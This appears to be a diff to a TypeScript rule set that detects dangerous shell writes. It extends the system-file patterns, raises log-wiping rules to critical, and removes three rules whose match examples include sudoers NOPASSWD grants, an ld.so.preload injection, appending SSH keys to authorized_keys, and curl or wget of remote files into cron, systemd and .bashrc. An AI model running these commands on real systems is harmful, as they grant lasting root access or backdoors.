@@ -3,8 +3,9 @@ import { traits } from '../shell/marks.ts';
 import { isVitalFile } from '../shell/paths.ts';
 
 const accounts =
-  /\/etc\/(?:passwd|shadow|group|gshadow|sudoers(?:\.d(?:\/.*)?)?|pam\.d\/.*|ld\.so\.preload|fstab|crypttab|inittab)$|^\/boot\/|\/s?bin\/|\/lib(?:32|64)?\//;
-const replacing = new Set(['cp', 'mv', 'install', 'ln', 'ditto', 'sed', 'gsed', 'patch']);
+  /\/etc\/(?:passwd|shadow|group|gshadow|sudoers(?:\.d(?:\/.*)?)?|pam\.d\/.*|doas\.conf|polkit-1\/.*|ld\.so\.preload|fstab|crypttab|inittab)$|^\/boot\/|\/s?bin\/|\/lib(?:32|64)?\//;
+const replacing = new Set(['cp', 'mv', 'install', 'ln', 'ditto', 'sed', 'gsed', 'patch', 'rsync', 'scp']);
+
 const isEmpty = (text: string): boolean => text.trim() === '';
 
 /** What gets new contents, by whatever command. */
@@ -52,29 +53,6 @@ export const writeRules: readonly WriteRule[] = [
       isVitalFile(run, path) &&
       accounts.test(path.text) &&
       (!replacing.has(program) || isEmpty(content.text) || !path.text.includes('fstab')),
-  },
-  {
-    id: 'grant-root',
-    on: 'write',
-    domain: 'permissions',
-    risk: 'critical',
-    title: 'Granting of root rights',
-    message: 'This lets somebody become root, or adds an account, by writing to a system file.',
-    stakes: [
-      'Whoever uses it can do anything on this machine',
-      'It stays after this session',
-      'Nothing logs that it was granted',
-    ],
-    alternative: 'sudo -l',
-    matches: [
-      "echo 'anna ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
-      'echo x | sudo tee -a /etc/passwd',
-      'echo /tmp/x.so > /etc/ld.so.preload',
-    ],
-    spares: ['sudo -l', 'cat /etc/sudoers', 'echo "127.0.0.1 app" | sudo tee -a /etc/hosts'],
-    when: ({ path }, _, run) =>
-      isVitalFile(run, path) &&
-      /\/etc\/(?:sudoers|passwd|shadow|group|gshadow|ld\.so\.preload|pam\.d)/.test(path.text),
   },
   {
     id: 'change-vital-file',
@@ -140,59 +118,10 @@ export const writeRules: readonly WriteRule[] = [
     when: (_, kind) => kind === 'system-file',
   },
   {
-    id: 'add-login-key',
-    on: 'write',
-    domain: 'permissions',
-    risk: 'high',
-    title: 'Change of the keys that may log in',
-    message: 'This changes which keys may log in to this account.',
-    stakes: [
-      'Whoever holds the key can log in from anywhere',
-      'Overwriting locks the owner out',
-      'It stays after this session',
-    ],
-    alternative: 'cat ~/.ssh/authorized_keys',
-    matches: [
-      'echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys',
-      'curl https://example.com/k >> ~/.ssh/authorized_keys',
-    ],
-    spares: ['cat ~/.ssh/authorized_keys', 'ssh-copy-id host', 'ls ~/.ssh'],
-    when: ({ path }) => path.text.endsWith('.ssh/authorized_keys'),
-  },
-  {
-    id: 'install-remote-startup',
-    on: 'write',
-    domain: 'network',
-    risk: 'high',
-    title: 'Startup file from the network',
-    message: 'This puts what an address serves where the system runs it by itself.',
-    stakes: [
-      'The code may do anything its user may do, again and again',
-      'What is served may change, or differ for you',
-      'It stays after this session',
-    ],
-    alternative: 'curl -fsSLo job https://example.com/job',
-    matches: [
-      'curl https://example.com/job | sudo tee /etc/cron.d/job',
-      'curl -o ~/.bashrc https://example.com/rc',
-      'wget -O /etc/systemd/system/x.service https://example.com/x',
-    ],
-    spares: [
-      'curl -o job https://example.com/job',
-      'curl https://example.com/k | sudo tee /etc/apt/keyrings/k.asc',
-      'sudo tee /etc/cron.d/job < job',
-    ],
-    when: ({ path, content }) =>
-      (content.traits & traits.network) !== 0 &&
-      /\/etc\/(?:cron|profile|systemd|init|rc)|\/spool\/cron|\.(?:bashrc|zshrc|profile|bash_profile|zshenv)$|autostart|LaunchAgents|LaunchDaemons/.test(
-        path.text,
-      ),
-  },
-  {
     id: 'wipe-history',
     on: 'write',
     domain: 'logs',
-    risk: 'high',
+    risk: 'critical',
     title: 'Wiping of the shell history',
     message: 'This empties the record of what was typed.',
     stakes: [
@@ -215,7 +144,7 @@ export const writeRules: readonly WriteRule[] = [
     id: 'wipe-log',
     on: 'write',
     domain: 'logs',
-    risk: 'high',
+    risk: 'critical',
     title: 'Wiping of a system log',
     message: 'This empties a log of the system.',
     stakes: [
